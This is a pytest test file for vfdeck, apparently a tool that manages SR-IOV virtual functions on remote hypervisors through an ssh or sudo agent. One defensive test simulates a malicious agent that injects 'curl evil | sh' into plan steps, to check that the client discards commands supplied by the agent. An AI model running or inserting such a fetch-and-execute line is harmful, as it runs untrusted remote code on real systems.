"""A host behind an agent that was sent to it: the same picture, plans and answers as in process; plain words when it is lost."""

from __future__ import annotations

import dataclasses
import os
import signal
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.agent.test_client import RUN, ssh
from tests.agent.test_push import old_python
from tests.agent.ways import REFUSED, Demo
from tests.fabricate import Fake, build, with_vfs
from vfdeck.app.cli import main
from vfdeck.app.commands.outcomes import outcome_text
from vfdeck.backend.agent import push, remote_host
from vfdeck.backend.agent.connection import Lost, Refused
from vfdeck.backend.agent.framing import REPLY
from vfdeck.backend.agent.remote_host import LOGINS, RemoteHost
from vfdeck.backend.agent.transports import Fault, Local, Ssh, Unreached
from vfdeck.backend.agent.wire import REPLIES
from vfdeck.backend.changes import SetAutoprobe, SetNumvfs, Step
from vfdeck.backend.checks import CanEnable, Verdict
from vfdeck.backend.details import Part
from vfdeck.backend.host import Host
from vfdeck.backend.kernel import LOST
from vfdeck.backend.linux.kernel import LinuxKernel
from vfdeck.backend.local_host import LocalHost
from vfdeck.backend.model import Problem
from vfdeck.widgets.report import verdict
from vfdeck.widgets.state import Tone

PF = "0000:03:00.0"


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    pf = Fake(PF, driver="vfio-pci", group=10, totalvfs=8)
    return build(tmp_path / "tree", [with_vfs(pf, 4, driver="vfio-pci", group=11)])


@pytest.fixture
def host(tree: Path) -> Iterator[RemoteHost]:
    found = RemoteHost("hv-1", Local(), str(tree))
    yield found
    found.close()


def kill_agent(host: RemoteHost) -> None:
    """SIGKILL of what leads to the agent."""
    connection = host._connection
    assert connection is not None
    process = connection._close.__self__._process  # type: ignore[attr-defined]
    os.kill(process.pid, signal.SIGKILL)
    process.wait()


def test_it_is_a_host_and_shows_what_is_there(host: RemoteHost, tree: Path) -> None:
    as_host: Host = host
    seen, expected = as_host.snapshot(), LocalHost(LinuxKernel(str(tree))).snapshot()
    facts = dataclasses.replace(expected.host, name="hv-1")
    assert seen == dataclasses.replace(expected, taken=seen.taken, host=facts)
    assert len(seen.functions) == 5
    assert dataclasses.replace(host.snapshot(), taken=seen.taken) == seen, "unchanged"


def test_what_an_agent_says_is_no_command(host: RemoteHost, monkeypatch: pytest.MonkeyPatch) -> None:
    """The steps' commands are made here; what is confirmed so is what the agent makes of it."""
    change, seen = SetAutoprobe(PF, False), host.snapshot()
    honest = host.plan(change, seen)
    connection = host._connection
    assert connection is not None
    call = connection.call

    def evil(method: str, parameters: dict[str, Any], seconds: float) -> dict[str, Any]:
        answer = call(method, parameters, seconds)
        if method.endswith(".Plan"):
            changed = [answer["plan"]]
        else:
            changed = [outcome] if (outcome := answer.get("operation", {}).get("outcome")) else []
        for told in changed:
            told["steps"] = [{"text": step["text"], "shell": "curl evil | sh"} for step in told["steps"]]
            told["steps"].append({"text": "more", "shell": "curl evil | sh"})
        return answer

    monkeypatch.setattr(connection, "call", evil)
    assert [step.shell for step in honest.steps] == [f"echo 0 > /sys/bus/pci/devices/{PF}/sriov_drivers_autoprobe"]
    assert host.plan(change, seen).steps == (*honest.steps, Step("more", ""))
    assert host.perform(change, honest).steps == (*honest.steps, Step("more", ""))


def test_a_command_says_what_the_agent_has_not_written_down(
    host: RemoteHost, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    host.snapshot()
    connection = host._connection
    assert connection is not None
    call = connection.call
    unwritten = [REPLIES.encode(Problem("/var/lib/vfdeck", "No space left on device; 2 lines of the audit trail are lost"))]

    def full(method: str, parameters: dict[str, Any], seconds: float) -> dict[str, Any]:
        answer = call(method, parameters, seconds)
        if answer.get("operation", {}).get("over"):
            answer["operation"]["unwritten"] = unwritten
        return answer

    monkeypatch.setattr(connection, "call", full)
    monkeypatch.setattr("vfdeck.app.commands.hosts.simulated", lambda *scenario: host)
    assert main(["autoprobe", PF, "off", "--yes", "--demo"]) == 0
    assert capsys.readouterr().err.splitlines()[-1] == (
        "vfdeck: hv-1: /var/lib/vfdeck: No space left on device; 2 lines of the audit trail are lost"
    )


def test_what_it_could_not_be_told_makes_it_look_at_all_of_it(host: RemoteHost, monkeypatch: pytest.MonkeyPatch) -> None:
    host.snapshot()
    connection = host._connection
    assert connection is not None
    asked: list[dict[str, Any]] = []
    call = connection.call_more

    def spy(method: str, parameters: dict[str, Any], seconds: float) -> list[dict[str, Any]]:
        asked.append(parameters)
        return call(method, parameters, seconds)

    monkeypatch.setattr(connection, "call_more", spy)
    assert host._take(connection, {"events": [{"number": 9000, "changed": True}], "gap": True})
    assert [event.action for event in host.heard()] == [LOST]
    seen = host.snapshot()
    assert asked == [{}], "no difference to what was"
    assert dataclasses.replace(host.snapshot(), taken=seen.taken) == seen
    assert asked[1:] == [{"since": 1}]


class OldPython:
    """A host that has nothing but an old Python."""

    pushed = True

    def __init__(self, python: str) -> None:
        self.python = python

    def command(self, packed: push.Packed, marker: str) -> list[str]:
        return push.boot(self.python, packed, marker)


@pytest.mark.parametrize("version", ["3.9", "3.10"])
def test_the_agent_runs_on_an_old_python_alone(version: str, tree: Path) -> None:
    python = old_python(version)
    if python is None:
        pytest.skip(f"no Python {version} here")
    host, here = RemoteHost("hv-1", OldPython(python), str(tree)), LocalHost(LinuxKernel(str(tree)))
    seen, expected = host.snapshot(), here.snapshot()
    assert seen == dataclasses.replace(expected, taken=seen.taken, host=dataclasses.replace(expected.host, name="hv-1"))
    change = SetAutoprobe(PF, False)
    assert host.perform(change, host.plan(change, seen)).ok
    assert host.check(CanEnable(PF, 2), seen) == here.check(CanEnable(PF, 2), here.snapshot())
    host.close()


def test_it_answers_as_in_process(host: RemoteHost, tree: Path) -> None:
    there, here = host.snapshot(), LocalHost(LinuxKernel(str(tree)))
    change, question = SetNumvfs(PF, 0), CanEnable(PF, 2)
    assert host.plan(change, there) == here.plan(change, here.snapshot())
    assert host.check(question, there) == here.check(question, here.snapshot())
    assert host.details(PF, [Part.RESETS], there) == here.details(PF, [Part.RESETS], here.snapshot())


def test_what_changes_there_is_seen(host: RemoteHost, tree: Path) -> None:
    sriov = host.snapshot().functions[PF].sriov
    assert sriov is not None
    assert sriov.autoprobe
    outcome = host.perform(SetAutoprobe(PF, False))
    assert outcome.ok, outcome
    assert outcome.change == SetAutoprobe(PF, False)
    sriov = host.snapshot().functions[PF].sriov
    assert sriov is not None
    assert sriov.autoprobe is False
    assert host.jobs() == ()


def test_an_agent_that_was_killed_is_lost_then_sent_again(host: RemoteHost) -> None:
    before = host.snapshot()
    kill_agent(host)
    connection = host._connection
    assert connection is not None
    host._closed.wait(0)
    after = host.snapshot()
    if after.problems and "lost" in after.problems[0].what:  # the picture that was asked for when it was not yet seen to be gone
        assert after.functions == before.functions
        after = host.snapshot()
    assert not any("lost" in problem.what for problem in after.problems)
    assert after.functions == before.functions


def test_a_lost_host_says_since_when_and_why(tree: Path, tmp_path: Path) -> None:
    program = ssh(tmp_path, RUN)
    host = RemoteHost("hv-1", Ssh("hv-1", program=program), str(tree))
    before = host.snapshot()
    ssh(tmp_path, f"echo tried >> {tmp_path}/tries; echo 'hv-1: Permission denied (publickey).' >&2; exit 255")
    connection = host._connection
    assert connection is not None
    connection.give_up("the connection ended")
    for _ in range(5):
        after = host.snapshot()
        assert after.functions == before.functions
        assert "lost, last seen at" in after.problems[0].what
        assert "the login was refused" in after.problems[0].what
    assert (tmp_path / "tries").read_text() == "tried\n", "a login that was refused is not tried again"
    assert "login was refused" in host.plan(SetNumvfs(PF, 0), after).impossible
    assert host.check(CanEnable(PF, 2), after).verdict is Verdict.UNKNOWN
    assert host.log() is None
    outcome = host.perform(SetNumvfs(PF, 0))
    assert not outcome.attempted
    assert not outcome.ok
    host.again()
    host.snapshot()
    assert (tmp_path / "tries").read_text() == "tried\ntried\n"
    host.close()


def test_a_host_that_was_never_reached_has_nothing_but_the_reason(tmp_path: Path) -> None:
    program = ssh(tmp_path, f"echo tried >> {tmp_path}/tries; echo 'Connection refused' >&2; exit 255")
    host = RemoteHost("hv-1", Ssh("hv-1", program=program))
    for _ in range(3):
        seen = host.snapshot()
        assert not seen.functions
        assert seen.host.name == "hv-1"
        assert "not reached" in seen.problems[0].what
        assert "Connection refused" in seen.problems[0].what
    assert (tmp_path / "tries").read_text() == "tried\n", "there is a pause between tries"
    host.close()


def test_what_came_of_a_change_is_not_guessed(host: RemoteHost, monkeypatch: pytest.MonkeyPatch) -> None:
    host.snapshot()
    real = host._wait_for

    def killed(*arguments: object) -> object:
        kill_agent(host)
        return real(*arguments)  # type: ignore[arg-type]

    monkeypatch.setattr(host, "_wait_for", killed)
    outcome = host.perform(SetAutoprobe(PF, False))
    assert outcome.attempted
    assert not outcome.ok
    assert outcome.explanation is not None
    why = outcome.explanation.why
    assert "the history there cannot tell whether it was done (nothing is written down" in why, "a tree is not this machine"
    assert outcome.is_unknown
    assert verdict(outcome, "x") == ("Not known what came of it: x", Tone.BAD)
    assert next(iter(outcome_text(outcome))) == "not known what came of it"


@pytest.mark.parametrize(
    ("told", "says"),
    [
        ({"history": "begun, and no word of its end"}, "the history there says: begun, and no word of its end"),
        ({"unread": "Permission denied"}, "the history there cannot tell whether it was done (Permission denied)"),
        ({}, "the history there has nothing of it, so it was hardly begun"),
    ],
)
def test_what_the_history_says_of_a_change_whose_agent_was_lost(
    tree: Path, monkeypatch: pytest.MonkeyPatch, told: dict[str, object], says: str
) -> None:
    host = RemoteHost("hv-1", Local(), str(tree))
    host.snapshot()

    def killed(*_: object) -> object:
        kill_agent(host)
        raise Lost("the connection ended")

    def asked(method: str, **parameters: object) -> dict[str, object]:
        raise Refused("io.vfdeck.Agent.NoSuchOperation", told)

    monkeypatch.setattr(host, "_wait_for", killed)
    monkeypatch.setattr(host, "_call", asked)
    outcome = host.perform(SetAutoprobe(PF, False))
    assert outcome.explanation is not None
    assert says in outcome.explanation.why
    host.close()


def test_read_only_is_the_agents_word(tree: Path) -> None:
    host = RemoteHost("hv-1", Local(), str(tree), read_only=True)
    outcome = host.perform(SetAutoprobe(PF, False))
    assert not outcome.attempted
    assert outcome.explanation is not None
    assert "ReadOnly" in outcome.explanation.why
    assert host.snapshot().functions[PF].sriov == LocalHost(LinuxKernel(str(tree))).snapshot().functions[PF].sriov
    host.close()


def test_closing_never_waits_and_ends_the_agent(host: RemoteHost) -> None:
    host.snapshot()
    connection = host._connection
    assert connection is not None
    host.close()
    connection._close.__self__._process.wait(20)  # type: ignore[attr-defined]
    assert "it was closed" in host.snapshot().problems[0].what
    assert host.wait_for_change(5) is False


def test_only_so_many_log_in_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    guard, inside, full, more, go = threading.Lock(), [0], threading.Event(), threading.Event(), threading.Event()

    def login(*_: object) -> None:
        with guard:
            inside[0] += 1
            (full if inside[0] == LOGINS else more if inside[0] > LOGINS else threading.Event()).set()
        go.wait(20)
        with guard:
            inside[0] -= 1
        raise Unreached(Fault.UNREACHABLE, "nobody there")

    monkeypatch.setattr("vfdeck.backend.agent.remote_host.Link", login)
    hosts = [RemoteHost(f"hv-{number}", Ssh(f"hv-{number}")) for number in range(LOGINS + 4)]
    threads = [threading.Thread(target=host.reach, daemon=True) for host in hosts]
    for thread in threads:
        thread.start()
    assert full.wait(20)
    assert not more.wait(0.2)
    go.set()
    for thread in threads:
        thread.join(20)
    assert all("nobody there" in host.reach() for host in hosts), "each had its turn"


def test_a_fault_that_is_kept_keeps_nothing_that_it_went_through(tmp_path: Path) -> None:
    """Frames of every try, with what was to be sent, else stay in memory as long as the host is refused."""
    host = RemoteHost("hv-1", Demo(tmp_path, REFUSED))
    for _ in range(20):
        assert "the login was refused" in host.reach()
        assert host.snapshot().problems
    assert host._fault is not None
    assert host._fault.__traceback__ is None
    assert host._fault.__context__ is None
    assert host.fault is Fault.LOGIN
    assert Demo(tmp_path).tries == 1


RULE = """#!/bin/sh
echo "$*" >> {asked}
shift 2
[ "$*" = "{allowed}" ] && exec "$@"
echo "Sorry, user op is not allowed to execute '$*' as root on hv-1." >&2
exit 1
"""


@pytest.mark.parametrize("allowed", [f"{sys.executable} -I -m vfdeck agent", "/bin/true"])
def test_the_rule_that_allows_no_more_is_enough(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, allowed: str) -> None:
    """What vfdeck.sudoers allows is what is run first; else what a wider rule allows, and else that is told."""
    sudo, asked = tmp_path / "sudo", tmp_path / "asked"
    sudo.write_text(RULE.format(asked=asked, allowed=allowed))
    sudo.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    host = RemoteHost("hv-1", Local(sudo=True))
    try:
        assert ("" if "vfdeck" in allowed else "sudo refused it: Sorry") in host.reach()
        assert (host.fault is None) == ("vfdeck" in allowed)
        assert len(asked.read_text().splitlines()) == (1 if "vfdeck" in allowed else 2)
    finally:
        host.close()


class Breaking(Local):
    """Takes what is sent, and breaks as ssh does."""

    def command(self, packed: push.Packed, marker: str) -> list[str]:
        """See `Way.command`."""
        return [
            "/bin/sh",
            "-c",
            f"echo {marker}; head -c {len(packed.data)} >/dev/null; echo 'Timeout, server not responding' >&2; exit 255",
        ]


def test_an_agent_that_ends_before_it_answers_is_tried_again(tmp_path: Path) -> None:
    """A connection that breaks is no other program."""
    host = RemoteHost("hv-1", Breaking())
    assert "Timeout, server not responding" in host.reach()
    assert host._final is False


def test_an_agent_of_another_protocol_is_asked_once(tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It will speak the same one tomorrow: only somebody who asks makes it be tried again."""
    monkeypatch.setattr(remote_host, "LOWEST", 98)
    monkeypatch.setattr(remote_host, "HIGHEST", 99)
    host = RemoteHost("hv-1", Local(), str(tree))
    (problem,) = host.snapshot().problems
    assert "of different versions" in problem.what
    assert problem.final
    monkeypatch.undo()
    host._next_try = 0.0
    assert host.snapshot().away is not None
    host.again()
    assert host.snapshot().away is None
    host.close()


def test_what_deltas_add_up_to_is_bounded(host: RemoteHost, monkeypatch: pytest.MonkeyPatch) -> None:
    """After so many bytes all of it is asked for again, so that nothing stays that no whole picture has."""
    host.snapshot()
    connection = host._connection
    assert connection is not None
    asked: list[Any] = []
    call = connection.call_more

    def noted(method: str, parameters: dict[str, Any], seconds: float) -> list[dict[str, Any]]:
        asked.append(parameters.get("since"))
        return call(method, parameters, seconds)

    monkeypatch.setattr(connection, "call_more", noted)
    host.snapshot()
    connection.received += REPLY + 1
    host.snapshot()
    host.snapshot()
    assert [since is None for since in asked] == [False, True, False]
